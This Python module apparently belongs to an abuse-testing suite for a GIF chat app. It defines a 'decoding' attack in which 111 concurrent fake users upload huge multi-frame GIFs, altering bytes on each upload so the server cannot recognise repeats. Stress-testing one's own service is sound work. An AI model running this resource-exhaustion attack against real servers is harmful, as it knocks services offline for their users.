"""Users of one address upload small files that are large pictures."""

import asyncio
import itertools
from collections.abc import Iterator

import aiohttp

from abuse.attack import Attack, Prepared, Stage
from abuse.http import ask, attacker_http, new_cookie
from gifchat_testkit.pictures import picture

AT_ONCE = 111
SIDE = 4_096
FRAMES = 11
_UPLOADS_OF_A_USER = 15
_RETRY_S = 0.1


async def prepare(_: Stage) -> Prepared:
    """Create a picture of 185 million pixels, as hexadecimal digits."""
    return {"picture": (await asyncio.to_thread(picture, "gif", SIDE, SIDE, FRAMES)).hex()}


async def run(stage: Stage) -> None:
    """Upload."""
    numbers = itertools.count(1)
    data = bytes.fromhex(stage.prepared["picture"])
    async with attacker_http(stage) as http:
        await asyncio.gather(*(_keep_uploading(stage, http, data, numbers) for _ in range(AT_ONCE)))


async def _keep_uploading(stage: Stage, http: aiohttp.ClientSession, data: bytes, numbers: Iterator[int]) -> None:
    while True:
        headers = {"Cookie": await new_cookie(http) or ""}
        room = await ask(stage, http, "POST", "/api/v1/rooms", "rooms", json={"title": "Big"}, headers=headers)
        if room is None:
            await asyncio.sleep(_RETRY_S)
            continue
        for _ in range(_UPLOADS_OF_A_USER):
            form = aiohttp.FormData()
            form.add_field("gif", _different(data, next(numbers)), filename="big.gif", content_type="image/gif")
            path = f"/api/v1/rooms/{room['_id']}/gifs"
            if await ask(stage, http, "POST", path, "uploads", data=form, headers=headers) is None:
                await asyncio.sleep(_RETRY_S)


def _different(data: bytes, number: int) -> bytes:
    """Return the picture with another last byte of colour, so that it is not known already."""
    palette = bytearray(data)
    palette[13:16] = (number % 16_777_216).to_bytes(3, "big")
    return bytes(palette)


ATTACK = Attack(
    name="decoding",
    what=f"users of one address upload GIFs of {SIDE}×{SIDE} pixels and {FRAMES} frames, {AT_ONCE} at once",
    prepare=prepare,
    run=run,
)
